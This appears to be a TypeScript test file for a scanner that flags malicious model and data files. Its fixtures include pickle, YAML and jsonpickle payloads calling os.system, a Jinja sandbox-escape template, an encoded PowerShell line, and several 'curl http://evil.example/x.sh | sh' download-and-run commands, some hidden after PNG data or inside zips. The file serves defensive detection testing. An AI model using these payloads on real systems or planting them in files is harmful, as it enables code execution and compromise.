// What is known and not looked into is not clean, and says why; what is called otherwise is looked at all the same.
import { expect, it } from 'vitest';
import { lookAt } from '../testing/look.ts';
import { writeZip } from '../testing/zip.ts';

const verdictOf = (text: string, name: string): string => lookAt(Buffer.from(text, 'latin1'), name).verdict;

it('does not call clean a model of ONNX that is written as JSON', () => {
  expect(verdictOf('{"irVersion":"8","graph":{}}', 'model.onnxjson')).toBe('unanalyzed');
});

it('takes nothing for a pointer of Git LFS that goes on otherwise', () => {
  const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12\n`;
  expect(lookAt(Buffer.from(pointer), 'model.bin').unseen[0]!.reason).toContain('git lfs pull');
  for (const more of ['\ncurl http://evil.example/x.sh | sh\n', `${'\n'.repeat(5000)}cos\nsystem\n`]) {
    expect(lookAt(Buffer.from(pointer + more), 'model.bin').unseen[0]!.reason).toContain('and is none');
  }
});

it('looks at every line of JSON, YAML under other names, late lines of .pth, templates without an extension', () => {
  const call = '{"py/reduce":[{"py/function":"os.system"},{"py/tuple":["id"]}]}';
  const escape = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
  expect(verdictOf(`${'{"a":1}\n'.repeat(3000)}${call}\n`, 'rows.jsonl')).toBe('malicious');
  expect(verdictOf('a: !!python/object/apply:os.system ["id"]\n', 'train.cfg')).toBe('malicious');
  expect(
    verdictOf(`${'../src\n'.repeat(2000)}import os;os.system("curl http://evil.example/x.sh | sh")\n`, 'x.pth'),
  ).toBe('malicious');
  for (const name of ['template', 'template.txt', 'chat.tmpl']) expect(verdictOf(escape, name)).toBe('malicious');
  expect(lookAt(Buffer.from(`\ufeff${escape}`, 'utf16le'), 'chat_template.jinja').verdict).toBe('malicious');
});

it('finds the commands of attacks in languages that are not traced', () => {
  for (const name of ['a.r', 'a.lua', 'a.pl', 'a.c'])
    expect(verdictOf('x = 1\nsystem("curl http://evil.example/x.sh | sh")\n', name)).not.toBe('clean');
  expect(verdictOf('@echo off\r\npowershell -enc SQBFAFgAIAA=\r\n', 'a.bat')).not.toBe('clean');
});

it('finds what stands behind a picture, within another member as well', () => {
  const chunk = (type: string, size: number): Buffer => {
    const bytes = Buffer.alloc(12 + size, 'ab');
    bytes.writeUInt32BE(size, 0);
    bytes.write(type, 4, 'latin1');
    return bytes;
  };
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  const picture = Buffer.concat([signature, chunk('IHDR', 13), chunk('IDAT', 1_600_000), chunk('IEND', 0)]);
  const pickle = Buffer.from('\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R.', 'latin1');
  expect(lookAt(picture, 'a.png')).toMatchObject({ format: 'image', verdict: 'clean', unseen: [] });
  expect(lookAt(Buffer.concat([picture, pickle]), 'a.png').verdict).toBe('malicious');
  const archive = Buffer.concat([picture, writeZip([{ name: 'm.pkl', content: pickle }])]);
  expect(lookAt(writeZip([{ name: 'a.png', content: archive, deflated: true }]), 'm.zip').verdict).toBe('malicious');
});
